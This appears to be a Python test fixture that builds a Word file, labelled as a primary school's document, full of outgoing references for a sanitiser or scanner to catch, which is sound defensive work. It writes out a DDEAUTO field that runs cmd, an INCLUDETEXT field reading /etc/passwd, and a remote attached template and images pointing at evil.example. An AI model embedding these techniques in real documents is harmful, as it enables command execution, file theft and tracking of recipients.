"""A school's Word document that reaches out in every way, and the parts of such files."""

from __future__ import annotations

import io
from itertools import count

import docx

from hostile.archives import changed
from word_files import unzipped

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMES = (
    f'xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
EVIL = "http://evil.example/x"
HEADER, SETTINGS = "word/header1.xml", "word/settings.xml"
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)


def relations(*each: tuple[str, str, str, bool]) -> bytes:
    """Write relations: id, kind, target, whether it leads out."""
    inside = "".join(
        f'<Relationship Id="{identity}" Type="{R}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if external else ''}/>"
        for identity, kind, target, external in each
    )
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{inside}</Relationships>'.encode()


def run(inside: str) -> str:
    return f"<w:r>{inside}</w:r>"


NUMBERS = count(1)


def picture(attributes: str, click: str = "") -> str:
    number = next(NUMBERS)
    return run(
        '<w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/>'
        f'<wp:docPr id="{number}" name="图">{click}</wp:docPr><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        f'<pic:nvPicPr><pic:cNvPr id="{number}" name="图"/><pic:cNvPicPr/></pic:nvPicPr>'
        f"<pic:blipFill><a:blip {attributes}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData>"
        "</a:graphic></wp:inline></w:drawing>"
    )


def field(instruction: str, shown: str) -> str:
    return (
        run('<w:fldChar w:fldCharType="begin"/>')
        + run(f"<w:instrText>{instruction}</w:instrText>")
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run(f"<w:t>{shown}</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
    )


HEAD = (
    f"<w:hdr {NAMES}><w:p>"
    + run("<w:t>青石桥小学</w:t>")
    + picture('r:embed="rIn"')
    + picture('r:link="rOut"')
    + picture('r:embed="rIn" r:link="rOut"', '<a:hlinkClick r:id="rOut"/>')
    + run(f'<w:pict><v:shape o:href="{EVIL}"><v:imagedata src="{EVIL}"/></v:shape></w:pict>')
    + run('<w:pict><v:shape><v:imagedata r:id="rIn" r:href="rOut"/></v:shape></w:pict>')
    + run(
        '<w:object><v:shape><v:imagedata r:id="rIn"/></v:shape>'
        '<o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="rOle"/></w:object>'
    )
    + '<w:hyperlink r:id="rOut"><w:r><w:t>学校网站</w:t></w:r></w:hyperlink>'
    + field("PAGE", "1")
    + field(f' INCLUDEPICTURE "{EVIL}" \\d', "旧图")
    + field(' DDEAUTO c:\\\\windows\\\\cmd "/k calc"', "旧值")
    + field("INCLUDETEXT file:///etc/passwd", "旧文")
    + f'<w:fldSimple w:instr="LINK {EVIL}">{run("<w:t>旧链</w:t>")}</w:fldSimple>'
    + f'<w:fldSimple w:instr="NUMPAGES">{run("<w:t>9</w:t>")}</w:fldSimple>'
    + "</w:p></w:hdr>"
).encode()
HEAD_RELATIONS = relations(
    ("rIn", "image", "media/crest.png", False),
    ("rOut", "image", EVIL, True),
    ("rOle", "oleObject", "embeddings/ole.bin", False),
)
CONTENT_TYPES = "[Content_Types].xml"


def school(extra: dict[str, bytes | None] | None = None) -> bytes:
    """Return a school's document that reaches out in every way, with changes to its parts."""
    word = docx.Document()
    word.sections[0].header.paragraphs[0].text = "校名"
    buffer = io.BytesIO()
    word.save(buffer)
    data = buffer.getvalue()
    parts = unzipped(data)
    types = parts[CONTENT_TYPES].replace(
        b"<Override",
        b'<Default Extension="bin" ContentType="a/b"/>'
        b'<Default Extension="html" ContentType="text/html"/>'
        b'<Default Extension="png" ContentType="image/png"/><Override',
        1,
    )
    document = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        relations(
            ("rVba", "vbaProject", "vbaProject.bin", False),
            ("rFrame", "frame", EVIL, True),
            ("rChunk", "aFChunk", "chunk.html", False),
        ).partition(b">")[2],
    )
    settings = parts[SETTINGS].replace(
        b"<w:zoom", b'<w:attachedTemplate xmlns:r="%s" r:id="rTpl"/><w:zoom' % R.encode(), 1
    )
    return changed(
        data,
        {
            CONTENT_TYPES: types,
            "word/_rels/document.xml.rels": document,
            "word/vbaProject.bin": b"macro",
            "word/chunk.html": b"<script>",
            "word/embeddings/ole.bin": b"ole",
            "word/media/crest.png": PIXEL,
            HEADER: HEAD,
            "word/_rels/header1.xml.rels": HEAD_RELATIONS,
            SETTINGS: settings,
            "word/_rels/settings.xml.rels": relations(("rTpl", "attachedTemplate", EVIL, True)),
            **(extra or {}),
        },
    )
